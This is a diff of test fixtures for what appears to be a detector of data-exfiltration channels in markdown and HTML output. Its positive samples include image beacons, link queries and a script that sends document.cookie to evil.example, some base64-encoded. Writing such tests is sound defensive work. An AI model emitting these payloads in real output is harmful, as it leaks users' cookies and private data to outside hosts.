@@ -182,25 +182,27 @@ const EXFIL_POSITIVES = [
   'Here is a chart: ![chart](https://evil.example/c.png?d=SECRET)',
   'See ![x](//evil.example/p.gif)',
   '<a href="javascript:alert(document.cookie)">click here</a>',
-  '[report](https://attacker.example/collect?q=user-data)',
+  '[report](https://attacker.example/collect?q=the+user+said+their+password+is+hunter2)',
   '<img src="https://evil.example/pixel.gif?u=1">',
   '<script>fetch("https://evil.example/"+document.cookie)</script>',
   '<iframe src="https://evil.example"></iframe>',
-  // a link outside the allowlist is a channel when it can carry data (exfiltration.ts): a query, a fragment
-  '<a href="https://evil.example/login?next=SECRET">Sign in</a>',
-  '[ref]: https://evil.example/track?d=abc',
+  // a link outside the allowlist is a channel when it can carry data (exfiltration.ts): a query or fragment holding
+  // encoded data, free text, an e-mail or a redaction marker, or longer than navigation (a short word such as
+  // `?d=SECRET` behind a click is the documented residual, like a word in a path)
+  '<a href="https://evil.example/login?next=dXNlcj1hbGljZTtwYXNzPWh1bnRlcjI">Sign in</a>',
+  '[ref]: https://evil.example/track?d=YWxpY2U6aHVudGVyMg',
   '![logo][ref]\n\n[ref]: https://evil.example/logo.png',
-  '<https://evil.example/steal?x=1>',
-  '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
+  '<https://evil.example/steal?x=%5BREDACTED:github-token%5D>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5mZXRjaCgnLy9ldmlsLmV4YW1wbGUvJytkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+">open</a>',
   '<div onmouseover="steal()">hover</div>',
   '![a](<https://evil.example/a b.png>)',
-  '[docs](https://docs.example.com.evil.example/x#SECRET)',
+  '[docs](https://docs.example.com.evil.example/x#c2VjcmV0LXRva2Vu)',
   // the four forms the regex rules let through (issue 10), and a bare URL
   `![${'a'.repeat(600)}](https://evil.example/long-alt)`,
   `![a](https://evil.example/${'q'.repeat(1200)})`,
   '![a [b] c](https://evil.example/nested)',
   '![chart][c]\n\n[c]: https://evil.example/ref-image.png',
-  'The data is at https://evil.example/?d=SECRET if you need it.',
+  'The data is at https://evil.example/?d=alice%40contoso.com if you need it.',
   '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
 ];
 const EXFIL_NEGATIVES = [
@@ -216,6 +218,8 @@ const EXFIL_NEGATIVES = [
   '<a href="https://docs.example.com/x">docs</a>',
   '```html\n<img src="https://evil.example/in-code.png">\n```',
   'Inline code `![x](https://evil.example/y)` stays code.',
+  // an inline raster image requests nothing (exfiltration.ts): not a channel
+  '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
 ];
 
 /** Neutralised: the stage finds it, and finds nothing when its own output is judged again. */
